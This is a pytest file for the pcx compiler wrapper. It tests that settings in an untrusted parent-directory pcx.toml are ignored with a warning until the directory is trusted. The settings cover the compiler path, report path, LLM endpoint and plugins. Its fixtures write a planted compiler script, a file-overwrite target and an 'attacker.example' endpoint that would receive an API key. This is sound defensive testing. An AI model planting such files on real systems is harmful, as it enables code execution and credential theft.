"""What a pcx.toml the user did not trust can make pcx do: nothing that runs a program,
loads code, sends data or writes outside the build tree.

The attack: a pcx.toml in a parent directory (a shared /tmp, a cloned repository's top)
with ``cc = "../evilcc.sh"``, ``report = "../../victim.txt"``, ``llm-base-url = ...``.
Those settings are ignored, with ONE warning that names them and says how to trust the
file, until the user runs ``pcx trust DIR``; the file's other settings still apply.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from pcx_driver.config import Config, is_trusted, set_trust, trust_store, trusted_directories

CLANG = shutil.which("clang-19")
needs_clang = pytest.mark.skipif(CLANG is None, reason="clang-19 is not installed")

HELLO = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n'

#: A "compiler" that leaves a mark, then compiles for real (a trusted cc must still work).
EVIL_CC = """#!/bin/sh
echo "$@" > "$(dirname "$0")/evil-ran"
exec {clang} "$@"
"""


def run(argv, cwd, env, **kw):
    return subprocess.run(argv, cwd=cwd, env=env, capture_output=True, text=True, timeout=120, **kw)


@pytest.fixture
def attack(tmp_path, pcx_env):
    """/parent/pcx.toml (untrusted) above /parent/work/hello.c, a private trust store."""
    parent = tmp_path / "parent"
    work = parent / "work"
    work.mkdir(parents=True)
    (work / "hello.c").write_text(HELLO)
    evil = parent / "evilcc.sh"
    evil.write_text(EVIL_CC.format(clang=CLANG or "cc"))
    evil.chmod(0o755)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (parent / "pcx.toml").write_text(
        "[pcx]\n"
        'cc = "../evilcc.sh"\n'
        'report = "../../victim.txt"\n'
        'llm-base-url = "http://attacker.example/v1"\n'
        "remarks = true\n"  # a harmless setting: still applies
    )
    pcx_env["XDG_CONFIG_HOME"] = str(tmp_path / "xdg")
    return parent, work, evil, victim


@needs_clang
def test_untrusted_parent_pcx_toml_cannot_run_programs_or_write_files(attack, pcx_env):
    parent, work, evil, victim = attack
    r = run(["pcx-cc", "-O1", "hello.c", "-o", "hello"], work, pcx_env)
    assert r.returncode == 0, r.stderr
    assert not (parent / "evil-ran").exists()  # cc was not run
    assert victim.read_text() == "precious\n"  # report did not overwrite it
    warnings = [ln for ln in r.stderr.splitlines() if ln.startswith("pcx-cc: warning:")]
    assert len(warnings) == 1, r.stderr
    assert re.fullmatch(rf"pcx-cc: warning: {re.escape(str(parent / 'pcx.toml'))} is not trusted: ignored cc, "
                        rf"report, llm-base-url \(settings that run programs or write files\); to use them run "
                        rf"`pcx trust {re.escape(str(parent.resolve()))}` \[PCX011\]", warnings[0]), warnings[0]
    assert "[PCX009]" in r.stderr  # remarks = true from the same file still applies
    assert run(["./hello"], work, pcx_env).stdout == "hello\n"


@needs_clang
def test_after_pcx_trust_the_same_file_is_honoured(attack, pcx_env):
    parent, work, evil, victim = attack
    t = run(["pcx", "trust", str(parent)], work, pcx_env)
    assert t.returncode == 0 and str(parent.resolve()) in t.stdout, t.stderr
    assert trusted_directories(pcx_env) == [str(parent.resolve())]
    r = run(["pcx-cc", "-O1", "hello.c", "-o", "hello"], work, pcx_env)
    assert r.returncode == 0, r.stderr
    assert "pcx-cc: warning" not in r.stderr
    assert (parent / "evil-ran").exists()  # the trusted cc ran
    assert '"pcx-cc' in victim.read_text()  # and the report went where the file said
    # revoking restores the protection
    assert run(["pcx", "trust", "--revoke", str(parent)], work, pcx_env).returncode == 0
    (parent / "evil-ran").unlink()
    r = run(["pcx-cc", "-O1", "hello.c", "-o", "hello"], work, pcx_env)
    assert r.returncode == 0 and "[PCX011]" in r.stderr and not (parent / "evil-ran").exists()


def test_llm_endpoint_comes_only_from_the_user(attack, pcx_env):
    """The API key goes where llm-base-url says: never a place an untrusted file names."""
    from pcx_llm.plugin import OPTIONS

    parent, work, evil, victim = attack
    env = {"XDG_CONFIG_HOME": pcx_env["XDG_CONFIG_HOME"]}
    config = Config.resolve({}, env, work, extra_specs=OPTIONS)
    assert config.get("llm-base-url") is None and "llm-base-url" in config.untrusted
    assert config.get("cc") is None and config.get("report") is None and config.get("remarks") is True
    # the user's own choice always wins: environment, command line
    user = Config.resolve({}, {**env, "PCX_LLM_BASE_URL": "http://localhost:8000/v1"}, work, extra_specs=OPTIONS)
    assert user.get("llm-base-url") == "http://localhost:8000/v1" and "llm-base-url" not in user.untrusted
    flag = Config.resolve({"llm-base-url": ["http://127.0.0.1:1/v1"]}, env, work, extra_specs=OPTIONS)
    assert flag.get("llm-base-url") == "http://127.0.0.1:1/v1"
    set_trust(str(parent), True, env)
    trusted = Config.resolve({}, env, work, extra_specs=OPTIONS)
    assert trusted.get("llm-base-url") == "http://attacker.example/v1" and trusted.untrusted == []


def test_llm_enable_and_log_dir_need_trust_too(tmp_path):
    from pcx_llm.plugin import OPTIONS

    (tmp_path / "pcx.toml").write_text('llm = true\nllm-log-dir = "/tmp/elsewhere"\nllm-model = "m"\n')
    env = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    config = Config.resolve({}, env, tmp_path, extra_specs=OPTIONS)
    assert config.get("llm") is False and config.get("llm-log-dir") is None and config.get("llm-model") == "m"
    assert config.untrusted == ["llm", "llm-log-dir"]


def test_a_file_named_on_the_command_line_is_the_users_choice(attack, pcx_env):
    parent, work, evil, victim = attack
    env = {"XDG_CONFIG_HOME": pcx_env["XDG_CONFIG_HOME"]}
    config = Config.resolve({"config": [str(parent / "pcx.toml")]}, env, work, strict=False)
    assert config.get("cc") == "../evilcc.sh" and config.untrusted == []
    config = Config.resolve({}, {**env, "PCX_CONFIG": str(parent / "pcx.toml")}, work, strict=False)
    assert config.get("cc") == "../evilcc.sh"


def test_trust_is_for_one_directory_and_a_safely_owned_file(tmp_path):
    env = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    top, sub = tmp_path / "top", tmp_path / "top" / "sub"
    sub.mkdir(parents=True)
    for d in (top, sub):
        (d / "pcx.toml").write_text('cc = "x"\n')
    set_trust(str(top), True, env)
    assert is_trusted(str(top / "pcx.toml"), env)
    assert not is_trusted(str(sub / "pcx.toml"), env)  # not the ones below it
    (top / "pcx.toml").chmod(0o666)  # anybody could have changed it since
    assert not is_trusted(str(top / "pcx.toml"), env)
    (top / "pcx.toml").chmod(0o644)
    store = Path(trust_store(env))
    assert store.stat().st_mode & 0o777 == 0o600 and store.parent.stat().st_mode & 0o777 == 0o700
    store.chmod(0o666)  # a store others can write records nothing
    assert not is_trusted(str(top / "pcx.toml"), env)


def test_pcx_trust_list_and_defaults(tmp_path, pcx_env):
    pcx_env["XDG_CONFIG_HOME"] = str(tmp_path / "xdg")
    (tmp_path / "pcx.toml").write_text("mode = 'static'\n")
    assert run(["pcx", "trust"], tmp_path, pcx_env).returncode == 0  # default: the current directory
    assert run(["pcx", "trust", "pcx.toml"], tmp_path, pcx_env).returncode == 0  # a file names its directory
    listed = run(["pcx", "trust", "--list"], tmp_path, pcx_env)
    assert listed.stdout.splitlines() == [str(tmp_path.resolve())]
    bad = run(["pcx", "trust", str(tmp_path / "nope")], tmp_path, pcx_env)
    assert bad.returncode == 2 and "not a directory" in bad.stderr
    # XDG_CONFIG_HOME unset: ~/.config/pcx/trusted
    home_env = {k: v for k, v in pcx_env.items() if k != "XDG_CONFIG_HOME"}
    home_env["HOME"] = str(tmp_path / "home")
    assert run(["pcx", "trust"], tmp_path, home_env).returncode == 0
    assert (tmp_path / "home" / ".config" / "pcx" / "trusted").read_text().splitlines()[-1] == str(tmp_path.resolve())


@needs_clang
def test_untrusted_plugin_list_is_not_loaded(tmp_path, pcx_env):
    """``plugin`` loads code: from an untrusted file it is ignored (one warning)."""
    (tmp_path / "pcx_planted.py").write_text("open('planted-ran', 'w').close()\n")
    (tmp_path / "pcx.toml").write_text('plugin = ["pcx_planted"]\nmode = "static"\n')
    (tmp_path / "hello.c").write_text(HELLO)
    pcx_env["PYTHONPATH"] = str(tmp_path)
    pcx_env["XDG_CONFIG_HOME"] = str(tmp_path / "xdg")
    r = run(["pcx-cc", "-c", "hello.c"], tmp_path, pcx_env)
    assert r.returncode == 0 and not (tmp_path / "planted-ran").exists()
    assert r.stderr.count("pcx-cc: warning:") == 1 and "ignored plugin" in r.stderr


def test_llm_audit_log_redacts_the_key_and_is_private(tmp_path):
    from pcx_llm.audit import AuditLog

    log = AuditLog(tmp_path / "llm", "prog.c-main:9", secrets=("sk-secret-123",))
    path = log.record("analysis", {"request": {"headers": "Bearer sk-secret-123"}, "reply": "ok"})
    assert path is not None and "sk-secret-123" not in path.read_text() and "[redacted]" in path.read_text()
    index = tmp_path / "llm" / "index.jsonl"
    for p in (path, index):
        assert p.stat().st_mode & 0o777 == 0o600, p
    for d in (tmp_path / "llm", path.parent):
        assert d.stat().st_mode & 0o777 == 0o700, d
